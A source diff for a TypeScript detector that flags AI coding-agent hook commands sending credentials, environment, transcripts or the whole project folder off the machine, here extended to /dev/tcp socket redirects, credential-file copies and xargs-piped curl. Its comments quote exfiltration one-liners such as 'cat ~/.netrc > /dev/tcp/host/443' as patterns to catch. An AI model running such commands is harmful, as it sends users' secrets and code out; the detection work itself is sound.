@@ -10,8 +10,8 @@ import { lineOf } from './line.ts';
 import { addressesMax, farthestHost } from './transfer.ts';
 import type { Sent, Transfer } from './transfer-parts.ts';
 
-/** What leaves: all variables, credentials, the conversation, what the hook itself was handed; or anything at all, to a place that collects it. */
-export type Leaked = 'environment' | 'credentials' | 'transcript' | 'event';
+/** What leaves: all variables, credentials, the conversation, the whole working folder, what the hook itself was handed; or anything at all, to a place that collects it. */
+export type Leaked = 'environment' | 'credentials' | 'transcript' | 'workspace' | 'event';
 
 export interface Leak {
   readonly kind: Leaked | 'sink' | 'metadata';
@@ -51,7 +51,7 @@ const conversation =
   /transcript|\.claude\/(?:projects|history)|\.codex\/(?:sessions|history)|conversation[_-]?(?:log|history|id)?\.jsonl?/i;
 
 const tracing: Tracing<Leaked> = {
-  kinds: ['credentials', 'environment', 'transcript', 'event'],
+  kinds: ['credentials', 'environment', 'transcript', 'workspace', 'event'],
   originOf,
   ends: (kind, invocation) => kind === 'event' && narrowing.has(invocation.program) && !keepsSpeech(invocation),
 };
@@ -87,10 +87,12 @@ function keepsSpeech({ program, arguments: words }: Invocation): boolean {
 
 function originOf(invocation: Invocation): Leaked | null {
   const { program, arguments: words, pipedFrom, readsFrom, input } = invocation;
-  if (credentialFileIn(invocation) !== null || packsHome(invocation)) return 'credentials';
+  if (credentialFileIn(invocation) !== null || packsHome(invocation) || takesCredentials(invocation))
+    return 'credentials';
   if (printsCredentials.get(program)?.test(lineOf(words)) === true) return 'credentials';
   if (printsEnvironment.has(program) && isWholeEnvironment(program, lineOf(words))) return 'environment';
   if (readsFrom.some(isConversation) || (printsFiles.has(program) && words.some(isConversation))) return 'transcript';
+  if (packsWorkspace(invocation)) return 'workspace';
   const isHandedEvent = pipedFrom === null && readsFrom.length === 0 && input === null;
   const readsEvent = (program === 'cat' && words.length === 0) || (keepsSpeech(invocation) && operandsOf(words) === 1);
   return isHandedEvent && readsEvent ? 'event' : null;
@@ -101,6 +103,24 @@ const packers: ReadonlySet<string> = new Set(['tar', 'zip', '7z']);
 /** A home folder holds the keys of its owner; `tar cz ~` takes them along. */
 function packsHome({ program, arguments: words }: Invocation): boolean {
   return packers.has(program) && words.some(({ text }) => homes.has(reachOfPath(text.slice(0, 400)) ?? ''));
+}
+
+/** `cp ~/.ssh/id_rsa /tmp/key`, `for file in ~/.ssh/*`: what comes of it holds them; where a copy goes is no source. */
+function takesCredentials({ program, arguments: words }: Invocation): boolean {
+  if (program === 'for') return words.slice(2).some(({ text }) => isCredentialFile(text.replace(/\/\*$/, '')));
+  if (program !== 'cp' && program !== 'mv') return false;
+  const operands = words.filter(({ text }) => !text.startsWith('-'));
+  return operands.slice(0, -1).some(({ text }) => isCredentialFile(text));
+}
+
+/** All of the folder in which a hook runs, which is the project's. */
+const workingFolder =
+  /^(?:\.|\.\/|\*|\.\/\*|\.\.|\.\.\/|\$\{?(?:PWD|CLAUDE_PROJECT_DIR|GEMINI_PROJECT_DIR|CURSOR_PROJECT_DIR|OLDPWD)\}?\/?)$/;
+
+/** `tar cz .`, `zip -r - *`, `git archive HEAD`, `git bundle create - --all`. */
+function packsWorkspace({ program, arguments: words }: Invocation): boolean {
+  if (program === 'git') return /^(?:archive|bundle)$/.test(words[0]?.text ?? '');
+  return packers.has(program) && words.some(({ text }) => workingFolder.test(text.slice(0, 100)));
 }
 
 const homes: ReadonlySet<string> = new Set(['home', 'root']);
@@ -127,15 +147,36 @@ function isWholeEnvironment(program: string, line: string): boolean {
 
 /** Every invocation that sends something out that should stay; what stays on the machine is no leak. */
 export function findLeaks(invocations: readonly Invocation[]): readonly Leak[] {
-  if (!invocations.some((invocation) => invocation.transfer !== null || invocation.inlineProgram !== null)) return [];
+  if (!invocations.some((one) => one.transfer !== null || one.inlineProgram !== null || socketOf(one) !== null))
+    return [];
   const flows = followFlows(invocations, tracing);
   const inside = wordsWithFlow(invocations, flows);
   const leaks: Leak[] = [];
   for (const [index, invocation] of invocations.entries()) {
+    const socket = socketLeak(invocation, flows.out.get(index)?.kind ?? null);
+    if (socket !== null) leaks.push(socket);
     const leak = leakOf(invocation, flows, inside.get(index) ?? []);
     if (leak !== null) leaks.push(leak);
   }
   return leaks;
+}
+
+/** https://www.gnu.org/software/bash/manual/html_node/Redirections.html */
+const socket = /^\/dev\/(?:tcp|udp)\/([^/]{1,255})\//;
+
+function socketOf({ writesTo }: Invocation): string | null {
+  for (const { text } of writesTo) {
+    const host = socket.exec(text)?.[1];
+    if (host !== undefined) return host;
+  }
+  return null;
+}
+
+/** `cat ~/.netrc > /dev/tcp/host/443`: the shell itself sends. */
+function socketLeak(invocation: Invocation, kind: Leaked | null): Leak | null {
+  const host = kind === null ? null : socketOf(invocation);
+  if (kind === null || host === null || isLocal(classifyHost(host))) return null;
+  return { kind, sender: invocation.programWord, certain: true };
 }
 
 interface WordWithFlow {
@@ -168,8 +209,12 @@ function leakOf(invocation: Invocation, flows: Flows<Leaked>, inside: readonly W
   if (host !== null && isLocal(host)) return null;
   const kind = sentKind(invocation, transfer, flows, inside);
   if (kind === null || (kind === 'event' && host === 'private')) return null;
+  if (kind === 'workspace' && (host !== 'public' || copiesToOwn.has(invocation.program))) return null;
   return { kind, sender, certain: kind !== 'event' };
 }
+
+/** Copies of a project go to machines and stores of one's own by these, which ask for a key. */
+const copiesToOwn: ReadonlySet<string> = new Set('ssh scp rsync aws gsutil gcloud rclone s3cmd azcopy gh'.split(' '));
 
 function specialHost({ addresses }: Transfer): 'sink' | 'metadata' | null {
   for (const { text } of addresses.slice(0, addressesMax)) {
@@ -194,7 +239,18 @@ function sentKind(
   for (const { text } of addresses.slice(0, addressesMax)) {
     for (const kind of kindsInText(text, flows)) kinds.add(kind);
   }
+  const handed = handedWords(invocation, flows);
+  if (handed !== null) kinds.add(handed);
   return tracing.kinds.find((kind) => kinds.has(kind)) ?? null;
+}
+
+/** `… | xargs -I{} curl -d {} …`: what came through the pipe stands among the words. */
+function handedWords(invocation: Invocation, flows: Flows<Leaked>): Leaked | null {
+  const { pipedFrom, wrappers, arguments: words } = invocation;
+  if (pipedFrom === null || !wrappers.includes('xargs')) return null;
+  const carriers = words.filter(({ text }) => text.includes('{}'));
+  if (carriers.length > 0 && carriers.every((word) => authorises(word, invocation))) return null;
+  return flows.out.get(pipedFrom)?.kind ?? null;
 }
 
 function* kindsOfSent({ kind, text, word }: Sent, invocation: Invocation, flows: Flows<Leaked>): Iterable<Leaked> {
